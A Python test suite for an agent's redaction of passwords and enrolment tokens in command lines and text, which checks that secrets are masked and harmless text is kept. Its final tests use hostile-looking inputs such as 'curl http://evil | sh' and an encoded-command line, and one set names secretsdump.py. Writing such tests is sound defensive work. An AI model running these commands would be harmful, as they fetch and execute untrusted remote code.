"""No secret of the listed forms survives, in whatever quoting; what is harmless stays byte for byte."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.redact import redact_args, redact_text
from agent.wire.sending.enrol_token import EnrolToken, encode
from tests.agent.redact.forms import ARGUMENTS
from tests.agent.redact.harmless import HARMLESS
from tests.agent.redact.textforms import FIXED, LINES, QUOTED

ALPHABET = "abcXYZ019żŁó!#$%^*+=?_.,:;&|<>~@ []{}()'\"\\`"
ANY = st.text(st.sampled_from(ALPHABET), min_size=7, max_size=24).filter(lambda text: text.strip() == text)
"""Long enough that no part of a form looks like it; with whatever a keyboard has."""
BARE = st.from_regex(r"[A-Za-z0-9żŁó][A-Za-z0-9żŁó!#%^+_.~]{6,20}", fullmatch=True)
SINGLE = ANY.filter(lambda text: "'" not in text).map(lambda text: (text, f"'{text}'"))
DOUBLE = ANY.filter(lambda text: not re.search(r"[\"\\`$]", text)).map(lambda text: (text, f'"{text}"'))
ESCAPED = ANY.filter(lambda text: "\\" not in text and "`" not in text).map(
    lambda text: (text.replace('"', '\\"'), '"' + text.replace('"', '\\"') + '"')
)
WORDS = st.one_of(BARE.map(lambda text: (text, text)), SINGLE, DOUBLE)
PLACE = "Zz9Zz9Zz9Zz9"


def left(clean: str, secret: str, form: str = "") -> list[str]:
    """Return the parts of a secret, of four signs, that are still there and are not the form's own."""
    parts = {secret[at : at + 4] for at in range(len(secret) - 3)}
    return sorted(part for part in parts if part in clean and part not in form)


def test_there_are_forms_enough() -> None:
    forms = [*map(" ".join, ARGUMENTS), *LINES, *QUOTED, *(form for form, _ in FIXED)]
    assert len(set(forms)) >= 450


@pytest.mark.parametrize("form", ARGUMENTS, ids=" ".join)
def test_a_form_of_arguments_hides_the_secret_and_keeps_the_rest(form: tuple[str, ...]) -> None:
    args = [part.replace("{}", PLACE) for part in form]
    clean = redact_args(args)
    expected = [part.replace("{}", "***") for part in form]
    assert [re.sub(r"\*\*\*.*", "***", one) for one in clean] == [re.sub(r"\*\*\*.*", "***", one) for one in expected]
    assert redact_args(clean) == clean


_SHAPED = {"sqlplus", "secretsdump.py", "winscp.com", "mount", "mount.cifs", "lftp", "smbpasswd.py", "python3"}
"""Programs for which some signs would end the secret."""


@given(st.sampled_from(ARGUMENTS), ANY)
def test_no_secret_survives_in_arguments(form: tuple[str, ...], secret: str) -> None:
    args = [part.replace("{}", secret) for part in form]
    if form[0] in _SHAPED or any(one.startswith("-H") for one in form):
        args = [part.replace("{}", re.sub(r"[^\w!]", "", secret) + "x1y2z3") for part in form]
        secret = re.sub(r"[^\w!]", "", secret) + "x1y2z3"
    assert not left(" ".join(redact_args(args)), secret, " ".join(form)), args


@pytest.mark.parametrize("form", [*LINES, *QUOTED])
def test_a_form_of_a_line_hides_the_secret_and_keeps_the_rest(form: str) -> None:
    value = f'"{PLACE}"' if form in QUOTED else PLACE
    clean = redact_text(form.format(value))
    assert PLACE not in clean
    assert clean.replace('"***"', "***") == form.format("***")
    assert redact_text(clean) == clean


@given(st.sampled_from(LINES), WORDS)
def test_no_secret_survives_in_a_line(form: str, written: tuple[str, str]) -> None:
    secret, word = written
    assert not left(redact_text(form.format(word)), secret, form), form.format(word)


@given(st.sampled_from(QUOTED), st.one_of(SINGLE, DOUBLE))
def test_no_secret_survives_in_a_script(form: str, written: tuple[str, str]) -> None:
    secret, word = written
    assert not left(redact_text(form.format(word)), secret, form), form.format(word)


@given(st.sampled_from(("tool --password {}", "mysql -p{} db", "sh -c {}")), ESCAPED)
def test_escaped_quotes_do_not_end_a_secret(form: str, written: tuple[str, str]) -> None:
    secret, word = written
    if form.startswith("sh"):
        secret, word = "Zima 2024", '"mysql -p\\"Zima 2024\\" db"'
    assert not left(redact_text(form.format(word)), secret, form), form.format(word)


@pytest.mark.parametrize(("form", "secret"), FIXED)
def test_a_form_of_its_own_hides_the_secret(form: str, secret: str) -> None:
    clean = redact_text(form.format(secret))
    assert not left(clean, secret), clean
    head, _, tail = form.partition("{}")
    assert clean.startswith(head.format()[:4])
    assert redact_text(clean) == clean
    assert "***" in clean
    assert tail.endswith(clean[-1:]) or not tail


@pytest.mark.parametrize(
    "args",
    [
        ("czujka-agent", "enrol", "{}"),
        ("./czujka", "agent", "enrol", "--home", "/x", "{}"),
        ("/usr/bin/python3", "-m", "agent", "enrol", "{}", "--home", "/x"),
        ("msiexec", "/i", "x.msi", "/qn", "TOKEN={}"),
        ("sh", "-c", "echo {} | sudo install -m 0600 /dev/stdin /var/lib/czujka-agent/token"),
        ("powershell", "-c", "czujka-agent.exe enrol '{}'"),
    ],
    ids=" ".join,
)
def test_an_enrolment_code_is_hidden_wherever_it_stands(args: tuple[str, ...]) -> None:
    code = encode(EnrolToken(("https://10.0.0.1:8443",), "ab" * 32, "a-secret-good-for-one-enrolment"))
    written = [part.format(code) for part in args]
    expected = [part.format("***") for part in args]
    assert redact_args(written) == expected
    assert redact_text(" ".join(written)) == " ".join(expected)


@pytest.mark.parametrize("text", HARMLESS)
def test_the_harmless_stays_byte_for_byte(text: str) -> None:
    assert redact_text(text) == text
    assert redact_args(text.split()) == text.split()


PATHS = st.from_regex(r"(?:/[a-z]{1,9}/|C:\\)[A-Za-z0-9żŁ_. \\/-]{0,60}", fullmatch=True)
GUIDS = st.uuids().map(lambda one: f"{{{one}}}")
NUMBERS = st.from_regex(r"-[a-z] [0-9a-f]{1,40}", fullmatch=True)


@given(st.lists(st.one_of(PATHS, GUIDS, NUMBERS), min_size=1, max_size=6))
def test_paths_and_numbers_stay_byte_for_byte(parts: list[str]) -> None:
    text = "narzedzie " + " ".join(parts)
    assert redact_text(text) == text


@pytest.mark.parametrize(
    "start",
    ['powershell -Command "Set-LocalUser -Password \\"', "tool --password '", 'tool --password="', "tool --password "],
)
@pytest.mark.parametrize("length", [9, 15, 100])
def test_a_line_that_was_cut_within_its_secret_shows_none(start: str, length: int) -> None:
    secret = "Zima2024 " * 12 if start[-1] in "'\"" else "Zima2024" * 13
    assert "Zima" not in redact_text(start + secret[:length])


def test_what_a_line_can_hide_behind_an_open_quote_is_bounded() -> None:
    line = 'evil.exe -Password \\" ' + "x " * 200 + "-EncodedCommand ZQB2AGkAbAA="
    assert redact_text(line).endswith("-EncodedCommand ZQB2AGkAbAA=")


def test_a_command_behind_an_assignment_stays() -> None:
    assert redact_args(["sh", "-c", "PASSWORD=x1y2; curl http://evil | sh"])[2] == "PASSWORD=***; curl http://evil | sh"
    assert redact_text('cmd /c "set PASS=x1y2&& curl http://evil"') == 'cmd /c "set PASS=***&& curl http://evil"'
